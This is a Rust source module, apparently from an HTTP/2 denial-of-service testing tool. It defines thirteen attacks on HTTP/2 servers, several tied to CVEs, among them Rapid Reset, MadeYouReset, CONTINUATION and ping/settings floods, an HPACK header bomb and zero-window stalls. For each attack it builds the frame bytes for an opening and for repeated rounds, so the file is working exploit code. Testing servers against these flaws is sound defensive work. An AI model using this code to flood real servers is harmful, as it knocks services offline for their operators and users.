//! The attacks.

use crate::frame::{
    END_HEADERS, END_STREAM, FIRST_REMEMBERED, GET, INITIAL_WINDOW_SIZE, POST, block, field, frame,
    headers, kind, remembered, settings,
};

/// An attack on a server of HTTP/2 that costs its client little.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Requests that the server has to reset, because something after them is wrong (CVE-2025-8671).
    MadeYouReset,
    /// More requests at once than are allowed, each of which is refused.
    Refused,
    /// A head that never ends (CERT VU#421644).
    Continuation,
    /// Settings, each of which is to be acknowledged (CVE-2019-9515).
    Settings,
    /// Pings, each of which is to be answered (CVE-2019-9512).
    Ping,
    /// Priorities that change all the time (CVE-2019-9513).
    Priority,
    /// Windows that are opened byte by byte.
    Window,
    /// Frames of a type that nobody knows, which have to be ignored.
    Unknown,
    /// A body of frames without a byte (CVE-2019-9518).
    EmptyData,
    /// A body byte by byte.
    TinyData,
    /// A few bytes that are megabytes of fields (CVE-2016-6581).
    HeaderBomb,
    /// Answers that may not be sent (CVE-2019-9511, -9517).
    ZeroWindow,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 13] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Refused,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::Priority,
        Self::Window,
        Self::Unknown,
        Self::EmptyData,
        Self::TinyData,
        Self::HeaderBomb,
        Self::ZeroWindow,
    ];

    /// How it is called.
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::MadeYouReset => "made-you-reset",
            Self::Refused => "refused",
            Self::Continuation => "continuation",
            Self::Settings => "settings",
            Self::Ping => "ping",
            Self::Priority => "priority",
            Self::Window => "window",
            Self::Unknown => "unknown",
            Self::EmptyData => "empty-data",
            Self::TinyData => "tiny-data",
            Self::HeaderBomb => "header-bomb",
            Self::ZeroWindow => "zero-window",
        }
    }

    /// What is sent once, after the preface.
    pub(crate) fn opening(self) -> Vec<u8> {
        let none = settings(&[]);
        let more = match self {
            Self::Continuation => frame(kind::HEADERS, END_STREAM, 1, &block(GET)),
            Self::EmptyData | Self::TinyData => headers(1, 0, &block(POST)),
            Self::HeaderBomb => {
                let large = remembered("x", "y".repeat(3_000));
                headers(1, END_STREAM, &[block(GET), large].concat())
            }
            Self::ZeroWindow => return settings(&[(INITIAL_WINDOW_SIZE, 0)]),
            _ => Vec::new(),
        };
        [none, more].concat()
    }

    /// What is sent again and again, the `n`-th time, and how many frames that is.
    pub(crate) fn round(self, n: u32, out: &mut Vec<u8>) -> u64 {
        // The first stream may be taken by the opening.
        let stream = 2 * n + 3;
        let get = || headers(stream, END_STREAM, &block(GET));
        let frames: &[Vec<u8>] = &match self {
            Self::RapidReset => vec![get(), frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8])],
            // Beyond the largest window there is.
            Self::MadeYouReset => {
                let most = 0x7fff_ffff_u32.to_be_bytes();
                vec![get(), frame(kind::WINDOW_UPDATE, 0, stream, &most)]
            }
            // They are never over, as their bodies are not.
            Self::Refused => vec![headers(stream, 0, &block(POST))],
            Self::Continuation => vec![frame(kind::CONTINUATION, 0, 1, &field("x", "y"))],
            Self::Settings => vec![settings(&[(INITIAL_WINDOW_SIZE, 65_535)])],
            Self::Ping => vec![frame(kind::PING, 0, 0, b"attacked")],
            Self::Priority => vec![frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 7])],
            Self::Window => vec![frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])],
            Self::Unknown => vec![frame(0xfa, 0, 0, b"")],
            Self::EmptyData => vec![frame(kind::DATA, 0, 1, b"")],
            Self::TinyData => vec![frame(kind::DATA, 0, 1, b"x")],
            Self::HeaderBomb => {
                let bomb = vec![FIRST_REMEMBERED; 15_000];
                vec![headers(
                    stream,
                    END_STREAM | END_HEADERS,
                    &[block(GET), bomb].concat(),
                )]
            }
            Self::ZeroWindow => vec![get()],
        };
        for frame in frames {
            out.extend(frame);
        }
        frames.len() as u64
    }
}
